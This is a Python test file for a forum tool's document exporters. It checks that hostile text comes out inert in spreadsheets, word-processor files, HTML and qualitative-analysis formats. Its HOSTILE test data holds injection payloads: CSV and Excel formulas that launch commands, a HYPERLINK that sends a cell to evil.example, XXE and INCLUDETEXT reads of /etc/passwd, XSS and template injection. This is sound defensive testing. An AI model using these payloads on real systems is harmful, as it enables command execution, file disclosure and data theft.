"""Words that would run, break or deceive, in every place where a person can write and in every format.

Each file opens again and shows the words; nothing in it is a formula, a link, markup or a turn of direction.
"""

import csv as csv_of_python
import io
import random
import re
from datetime import date
from zipfile import ZipFile

import docx as docx_of_python
import html5lib
import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from odfdo import Document
from openpyxl import load_workbook

from forum.intelligence.codebook import CodebookTheme
from forum.intelligence.exports import csv, docx, html, ods, odt, qdc, qdpx, xlsx
from forum.intelligence.exports.qdpx import Coding, Discussion, Passage, Project
from forum.intelligence.exports.sheets import sheet_names
from forum.intelligence.exports.words import CUT, LOST, cell, cut, line, plain, uncell
from forum.intelligence.report import Paper, QuotedWords, Report, Section, Table
from forum.models.themes import guid_of

pytestmark = pytest.mark.filterwarnings("error")  # a library that warns has left something out
TURNS = re.compile("[\u202a-\u202e\u2066-\u2069]")
LONG = "".join(random.Random(5).choices("abcdefghijklmnopqrstuvwxyz", k=32_768))
HOSTILE = {
    "sum": "=1+1",
    "plus": "+44 20 7946 0000",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "full width": "＝1+1 ＋1 －1 ＠1",
    "starts full width": "＠SUM(1)",
    "blank": "   =1+1",
    "no-break blank": "\u00a0=1+1",
    "quoted": '"=1+1"',
    "apostrophe": "'=1+1",
    "semicolon": 'so;=1+1;"=2+2";\n-3',
    "semicolon on one line": "so;=1+1",
    "link": '=HYPERLINK("http://evil.example/?"&A1,"Read me")',
    "address": "https://evil.example/",
    "looks like a number": "007",
    "looks like a date": "1/2",
    "list": "- one\n- two",
    "tags": "<b>&amp;</b> <w:p/> <text:p/>",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "section": "]]><x/>]]&gt;",
    "entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "comment": "--><!-- --",
    "quotes": "'\"`\\",
    "template": "{{ 7*7 }} {% include 'x' %} ${7*7}",
    "header code": "&L&G&D &&P",
    "escape of excel": "_x0041__x000D_ _xD83D_",
    "field": '{ INCLUDETEXT "/etc/passwd" } MERGEFIELD',
    "override": "\u202egnp.exe\u202c and \u2066inside\u2069",
    "arabic": "لماذا تأخر \u200fخروج المرضى؟",
    "emoji": "👩🏽‍⚕️ 🏴󠁧󠁢󠁷󠁬󠁳󠁿 é",
    "zalgo": "e" + "\u0301" * 500,
    "nul": "a\x00b",
    "controls": "a\x01\x08\x1b[31m\x1f\x7f\x9bb",
    "no characters": "a\ufffe\uffff\ufdd0b",
    "high half": "a\ud83d b",
    "low half": "a\udc00 b",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "long": LONG,
    "long emoji": "".join(random.Random(5).choices("😀😁😂🤣😃😄😅😆😉😊😋😎😍😘🥰", k=20_000)),
    "long formula": "=" + "+".join(LONG[at : at + 2] for at in range(0, 22_000, 2)),
    "chart title": "=Notes!A1",
    "picture": "R&G &[Picture]&G",
}


def report_of(words: str) -> Report:
    table = Table(words, words, ("Theme", words), [(words, 12), (words, None), ("Care", 0)], bars=(0, 1))
    plain_table = Table("Plain", "Plain", ("Theme", words), [(words, 1)])
    section = Section(words, words, [words, words], [plain_table], [QuotedWords(words, words)])
    return Report(
        title=words,
        note=words,
        made_on=date(2026, 5, 4),
        tables=[table, plain_table],
        method=[(words, words)],
        paper=Paper(words, words, words, words, words, words),
        sections=[section],
    )


def project_of(words: str) -> Project:
    theme = CodebookTheme(guid_of("X"), words, None, words, words, words, words, words, (words,))
    discussion = Discussion(words, [Passage(words, 1, [Coding(theme.guid, 1)])], about=words)
    return Project(words, [theme], [discussion], 1, words, {1: {words: words}})


def read_csv(words: str) -> str:
    data = csv.render_table(report_of(words).tables[0])
    assert b"\0" not in data
    fields = [field for row in csv_of_python.reader(io.StringIO(data.decode(), newline="")) for field in row]
    assert len(fields) == 8
    for part in re.split("[;\t\n]", data.decode().replace("\r\n", "\n").replace(",", "\n")):
        assert not re.match(r"[\s\"]*[=@＝＠+＋－-](?!\d+$)", part)  # wherever a program may part it
    return "\n".join(uncell(field) for field in fields)


def read_xlsx(words: str) -> str:
    data = xlsx.render(report_of(words))
    with ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                for element in etree.fromstring(package.read(name)).iter():
                    kind = etree.QName(element).localname
                    assert kind not in ("hyperlink", "oleObject", "externalReference")
                    assert element.get("TargetMode") != "External"
                    if kind == "f":  # only a chart has any, and they lead to the cells of its own sheet
                        own = sheet_names([words])[0]
                        assert name.startswith("xl/charts/")
                        assert re.fullmatch(r"(.+)!\$[AB]\$\d(:\$[AB]\$\d)?", element.text)
                        assert element.text.rpartition("!")[0].strip("'").replace("''", "'") == own
    book = load_workbook(io.BytesIO(data))
    assert all(sheet.oddHeader.left.text for sheet in book)
    assert all(each.value is not None for row in book.worksheets[0].iter_rows(min_row=3, max_col=2) for each in row)
    cells = [each for sheet in book for row in sheet for each in row if each.value is not None]
    assert {each.data_type for each in cells} <= {"s", "inlineStr", "n"}
    assert {each.value for each in cells if each.data_type == "n"} <= {0, 1, 12}
    return "\n".join(re.sub("_x005F_", "_", each.value) for each in cells if isinstance(each.value, str))


def read_ods(words: str) -> str:
    data = ods.render(report_of(words))
    document = Document(io.BytesIO(data))
    cells = [each for table in document.body.tables for row in table.get_rows() for each in row.get_cells()]
    assert not any(each.formula for each in cells)
    assert {each.type for each in cells if each.get_attribute("office:value")} <= {"float"}
    assert not document.body.xpath("//text:a")
    return "\n".join(part.inner_text for each in cells for part in each.get_paragraphs())


def read_docx(words: str) -> str:
    data = docx.render(report_of(words))
    with ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist() if name.endswith((".xml", ".rels"))}
    for part in parts.values():
        for element in etree.fromstring(part).iter():
            kind = etree.QName(element).localname
            assert kind not in ("hyperlink", "altChunk", "object")
            assert element.get("TargetMode") != "External"
            if kind == "instrText":
                assert element.text.strip() in ("PAGE", "NUMPAGES")
    docx_of_python.Document(io.BytesIO(data))
    return "\n".join(etree.fromstring(parts["word/document.xml"]).itertext("{*}t"))


def read_odt(words: str) -> str:
    document = Document(io.BytesIO(odt.render(report_of(words))))
    assert not document.body.xpath("//text:a | //office:script | //text:script")
    return "\n".join(part.inner_text for part in document.body.get_elements("descendant::text:p | descendant::text:h"))


def read_html(words: str) -> str:
    tree = html5lib.parse(html.render(report_of(words)).decode(), namespaceHTMLElements=False)
    assert not [element.tag for element in tree.iter() if element.tag in ("script", "x", "iframe", "a", "b")]
    assert not [name for element in tree.iter() for name in element.attrib if str(name).startswith("on")]
    return "\n".join(tree.itertext())


def read_json(words: str) -> str:
    # As `release_files` writes it. Halves of surrogate pairs are stopped before: no database stores them.
    found = msgspec.json.decode(msgspec.json.encode(report_of(plain(words))))
    return "\n".join([found["title"], *map(str, found["tables"][0]["rows"][0])])


def read_qdc(words: str) -> str:
    (theme,) = qdc.read_qdc(qdc.render(project_of(words).codebook))
    assert theme.definition == theme.include == theme.exclude == plain(words)
    return "\n".join([theme.name, theme.code, theme.definition, theme.example, *theme.aliases])


def read_qdpx(words: str) -> str:
    with ZipFile(io.BytesIO(qdpx.render(project_of(words)))) as package:
        files = {name: package.read(name).decode() for name in package.namelist()}
    root = etree.fromstring(files.pop("project.qde").encode())
    (source,) = files.values()
    selection = root.find(".//{*}PlainTextSelection")
    assert source[int(selection.get("startPosition")) : int(selection.get("endPosition"))] == plain(words)
    names = [element.get("name") or "" for element in root.iter()]
    assert all(line(words) == name for name in names if not re.match(r"$|Person 1$|Coder 1$", name))
    return "\n".join([source, *names, *root.itertext()])


FORMATS = {
    "csv": read_csv,
    "xlsx": read_xlsx,
    "ods": read_ods,
    "docx": read_docx,
    "odt": read_odt,
    "html": read_html,
    "json": read_json,
    "qdc": read_qdc,
    "qdpx": read_qdpx,
}
SHEETS = ("csv", "xlsx", "ods")


def squeezed(words: str) -> str:
    return "".join(words.split())


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", HOSTILE)
def test_the_file_opens_and_shows_the_words_and_nothing_runs(name, form):
    words = HOSTILE[name]
    shown = FORMATS[form](words)
    wanted = squeezed(plain(words))
    if name.startswith("long") and form in SHEETS:
        parts = [part for part in shown.split("\n") if len(part) > 16_000]
        assert parts and all(part.endswith(CUT) for part in parts)
        wanted = wanted[:16_000]
    assert wanted in squeezed(shown)
    assert not TURNS.search(shown)


# What makes them neutral


@pytest.mark.parametrize(
    ("words", "wanted"),
    [
        ("a\x00b", f"a{LOST}b"),
        ("a\ud83d\udc00b", f"a{LOST}{LOST}b"),
        ("a\r\nb\rc\x0bd\u2028e", "a\nb\nc\nd\ne"),
        ("\u202ea\u202c\u2066b\u2069", "ab"),
        ("👩🏽‍⚕️ \u200fأ é", "👩🏽‍⚕️ \u200fأ é"),
        ("\tas it was ", "\tas it was "),
    ],
)
def test_plain_words(words, wanted):
    assert plain(words) == wanted == plain(plain(words))


anything = st.text(st.one_of(st.characters(), st.sampled_from("=-+@;\t\r\n '\"＝\u202e\0\ud800")), max_size=12)


@settings(deadline=None)
@given(anything)
def test_plain_words_go_into_xml_and_come_back(words):
    root = etree.Element("x", name=line(words))
    root.text = plain(words)
    found = etree.fromstring(etree.tostring(root, encoding="utf-8"))
    assert (found.text or "") == plain(words) and found.get("name") == line(words)


@settings(deadline=None)
@given(anything)
def test_what_a_csv_made_safe_comes_back_and_its_cells_begin_no_formula(words):
    assert uncell(cell(words)) == words
    for part in re.split("[;\t\r\n]", cell(words)):
        assert not re.match(r"[\s\"]*[=+@＝＋＠－-]", part)


def test_words_are_left_alone_where_nothing_could_run():
    for words in ("CARE-1", "a+b", "well-being", "me@home", "5 = 5", "so; then", "don't"):
        assert cell(words) == words


@pytest.mark.parametrize("words", [LONG, "😀" * 16_384, "😀x" * 16_384, "x" * 32_767 + "😀"])
def test_what_is_too_long_for_a_cell_is_cut_and_says_so(words):
    short = cut(words)
    assert short.endswith(CUT) and words.startswith(short.removesuffix(CUT))
    assert 32_760 <= len(short.encode("utf-16-le")) // 2 <= 32_767


def test_what_just_fits_into_a_cell_is_whole():
    for words in ("x" * 32_767, "😀" * 16_383):
        assert cut(words) == words
